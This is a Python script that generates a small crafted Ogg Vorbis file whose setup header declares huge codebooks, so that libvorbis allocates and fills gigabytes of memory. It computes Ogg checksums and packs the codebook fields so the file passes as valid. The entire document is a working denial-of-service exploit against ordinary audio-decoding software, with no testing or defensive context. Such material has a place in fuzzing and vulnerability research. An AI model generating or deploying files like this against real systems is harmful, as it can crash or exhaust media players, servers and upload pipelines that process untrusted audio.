"""An Ogg Vorbis file of 3 kB whose header makes a decoder want gigabytes."""

import struct

ENTRIES = 2**23 - 1  # of a codebook; libvorbis takes a byte for each, and asks nobody whether it may


def _crc(content: bytes) -> int:
    """Ogg's checksum (RFC 3533)."""
    crc = 0
    for byte in content:
        crc ^= byte << 24
        for _ in range(8):
            crc = (crc << 1 ^ (0x04C11DB7 if crc & 0x80000000 else 0)) & 0xFFFFFFFF
    return crc


def _page(packets: list[bytes], number: int, flags: int) -> bytes:
    sizes = b"".join(b"\xff" * (len(packet) // 255) + bytes([len(packet) % 255]) for packet in packets)
    head = struct.pack("<4sBBQIIIB", b"OggS", 0, flags, 0, 1, number, 0, len(sizes)) + sizes
    page = head + b"".join(packets)
    return page[:22] + struct.pack("<I", _crc(page)) + page[26:]


def bomb(codebooks: int) -> bytes:
    """The file; it makes libvorbis allocate and fill 8 MB for each codebook."""
    about = b"\x01vorbis" + struct.pack("<IBIIIIBB", 0, 1, 48_000, 0, 0, 0, 0xB8, 1)
    comment = b"\x03vorbis" + bytes(8) + b"\1"
    bits, size = codebooks - 1, 8
    for _ in range(codebooks):
        # sync, dimensions, entries, ordered, length of the codewords less 1, how many, no values
        fields = ((0x564342, 24), (1, 16), (ENTRIES, 24), (1, 1), (22, 5), (ENTRIES, 23), (0, 4))
        for value, width in fields:
            bits |= value << size
            size += width
    setup = b"\x05vorbis" + bits.to_bytes((size + 7) // 8, "little")
    return _page([about], 0, 2) + _page([comment, setup], 1, 0) + _page([bytes(10)], 2, 4)
